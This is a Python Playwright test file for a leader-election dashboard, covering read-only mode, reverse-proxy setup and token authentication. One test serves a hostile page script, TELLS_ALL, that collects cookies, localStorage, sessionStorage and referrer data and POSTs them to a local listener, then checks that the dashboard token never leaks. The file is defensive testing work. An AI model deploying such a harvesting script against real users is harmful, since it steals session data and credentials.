"""A dashboard that only shows, and one that asks for a token."""

from __future__ import annotations

import gzip
import re
import threading
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
import requests
from playwright.sync_api import Page, expect

from tests.browser.complaints import Complaints
from tests.browser.fixtures import OpenDashboard, OpenView
from tests.browser.pages import Pages
from tests.browser.rest import Rest
from tests.browser.tabs import VIEWS
from tests.support.reverse_proxy import ReverseProxy
from tests.support.zookeeper import await_until

TOKEN = "open-sesame-0123456789"


def test_a_read_only_page_has_nothing_to_act_with(
    page_hosts: str, rest: Rest, election: str, open_view: OpenView, open_dashboard: OpenDashboard
) -> None:
    chain = rest.start(2, election)
    watcher = open_dashboard("--zookeeper", page_hosts, "--election", election, "--read-only")
    watching = Rest(watcher.url)
    view = open_view(watching, election)
    await_until(lambda: len(watching.chain(election)) == 2)
    view.expect_crown(chain[0])
    expect(view.at("read-only")).to_be_visible()
    for missing in (
        "start",
        "start-1",
        "start-first",
        "action-kill",
        "role",
        "stop-all",
        "timeout",
    ):
        expect(view.at(missing)).to_have_count(0)
    for key in "15kfwser":
        view.page.keyboard.press(key)
    rest.act(chain[0]["candidate"], "resign")
    view.expect_crown(chain[1])
    for name in (*VIEWS[1:], VIEWS[0]):
        view.press("]")
        expect(view.at("centre")).to_have_attribute("data-view", name)
        for key in "135k":
            view.press(key)
        for missing in ("start-first", "compare-start", "strike-kill", "measure"):
            expect(view.at(missing)).to_have_count(0)
    view.press("g")
    expect(view.at("tour-do")).to_be_disabled()
    view.press("d")
    view.press(".")
    expect(view.at("tour-card")).to_have_attribute("data-step", "election-crown")
    assert watching.state()["candidates"] == {}
    watching.close()


def test_behind_a_reverse_proxy_it_says_what_to_do_and_then_works(
    fresh_hosts: str, pages: Pages, open_dashboard: OpenDashboard
) -> None:
    """By nginx's default first, then with its `Host $host`, then as docs/proxies.md has it."""
    page = pages.open()
    complaints = Complaints(page)
    complaints.expect(r"socket\.io/|/page\.js|status of 403 .* /healthz")
    words = ("--zookeeper", fresh_hosts)
    with closing(ReverseProxy()) as proxy:
        proxy.upstream = open_dashboard(*words).url
        page.goto(proxy.url)
        says = re.compile(rf"another site's page .* with --allowed-host ({proxy.address})\.")
        expect(page.get_by_test_id("unstarted")).to_contain_text(says)
        allowed = open_dashboard(*words, "--allowed-host", proxy.address)
        proxy.upstream = allowed.url
        printed = allowed.printed_address.replace(allowed.url, proxy.url)
        with complaints.leaving():
            page.goto(printed)
            expect_live(page)
            proxy.host = lambda sent, upstream: sent.partition(":")[0]
            page.goto(printed)
            expect_live(page)
            proxy.host, proxy.upgrades = lambda sent, upstream: sent, True
            page.goto(printed)
            expect_live(page)
    assert not complaints.end()


def expect_live(page: Page) -> None:
    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
    expect(page.get_by_test_id("story")).to_contain_text("No election was found")


@pytest.mark.proof
def test_the_address_with_the_token_opens_the_page_once_and_the_browser_keeps_it(
    page_hosts: str, open_view: OpenView, open_dashboard: OpenDashboard, tmp_path: Path
) -> None:
    """For a reload, another tab, actions, and what is saved."""
    dashboard = open_dashboard("--zookeeper", page_hosts, "--token", TOKEN)
    rest = Rest(dashboard.url, TOKEN)
    view = open_view(rest, at=f"{dashboard.printed_address}#view=election")
    assert view.page.url.startswith(f"{dashboard.url}/#view=election")
    view.start(1)
    expect(view.at("crown")).to_have_attribute("data-znode", re.compile(r"n_\d{10}$"))
    view.reload()
    expect(view.at("crown")).to_have_attribute("data-znode", re.compile(r"n_\d{10}$"))
    other = view.page.context.new_page()
    other.goto(dashboard.url)
    expect(other.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
    with other.expect_download() as download:
        other.get_by_test_id("time-save").click()
    assert re.fullmatch(r"handoff-\d+-\d+\.jsonl\.gz", download.value.suggested_filename)
    saved = tmp_path / "saved"
    download.value.save_as(saved)
    assert b'"dashboard.started"' in gzip.decompress(saved.read_bytes())
    other.close()
    rest.close()


def test_a_page_without_the_token_says_what_it_needs(
    pages: Pages, open_dashboard: OpenDashboard, fresh_hosts: str
) -> None:
    dashboard = open_dashboard("--zookeeper", fresh_hosts, "--token", TOKEN)
    page = pages.open()
    page.goto(dashboard.url)
    needs = re.compile(
        "This dashboard asks for its token.*: This dashboard needs its token: open the address"
    )
    expect(page.locator("body")).to_contain_text(needs)
    expect(page.get_by_test_id("stage")).to_have_count(0)
    page.context.new_page().goto(dashboard.printed_address)
    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")


TELLS_ALL = """<!doctype html><script>
  const all = JSON.stringify({
    cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage},
    name: window.name, from: document.referrer, opener: String(window.opener),
  });
  fetch("/told", { method: "POST", body: all }).then(() => document.title = "told");
</script>"""
"""The page of another program on this host, which sends home whatever it can get hold of."""


class Listening(BaseHTTPRequestHandler):
    """Keeps what it is sent."""

    heard: ClassVar[list[tuple[str, dict[str, str], str]]] = []

    def do_GET(self) -> None:
        self._keep("")

    def do_POST(self) -> None:
        self._keep(self.rfile.read(int(self.headers["Content-Length"])).decode())

    def _keep(self, body: str) -> None:
        self.heard.append((self.path, dict(self.headers.items()), body))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(TELLS_ALL.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def test_another_port_of_this_host_gets_nothing_that_opens_the_dashboard(
    pages: Pages, open_dashboard: OpenDashboard, fresh_hosts: str
) -> None:
    """Whoever listens there hears what the browser sends, and sends it to the dashboard himself."""
    dashboard = open_dashboard("--zookeeper", fresh_hosts, "--token", TOKEN)
    page = pages.open()
    page.goto(dashboard.printed_address)
    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
    heard = Listening.heard
    with ThreadingHTTPServer(("127.0.0.1", 0), Listening) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{other.server_address[1]}/"
        page.evaluate("(address) => location.assign(address)", address)
        expect(page).to_have_title("told")
        beside = page.context.new_page()
        beside.goto(address)
        expect(beside).to_have_title("told")
        other.shutdown()
    page.goto(dashboard.url)
    expect(page.get_by_test_id("connection")).to_have_attribute("data-state", "connected")
    assert {path for path, *_ in heard} >= {"/", "/told"}
    assert TOKEN not in str(heard)
    assert TOKEN.encode().hex() not in str(heard)
    for _, headers, body in heard:
        mine = {name: value for name, value in headers.items() if not is_of_the_way(name)}
        for place in ("api/v1/state", "socket.io/?EIO=4&transport=polling"):
            for more in ({}, {"Authorization": f"Bearer {body}"}):
                tried = {**mine, **more}
                answer = requests.get(f"{dashboard.url}/{place}", headers=tried, timeout=30)
                assert answer.status_code == 401, answer.text


def is_of_the_way(name: str) -> bool:
    """Whether who sends it on has a header of his own."""
    return name.lower().startswith(("host", "origin", "referer", "sec-fetch", "content-"))
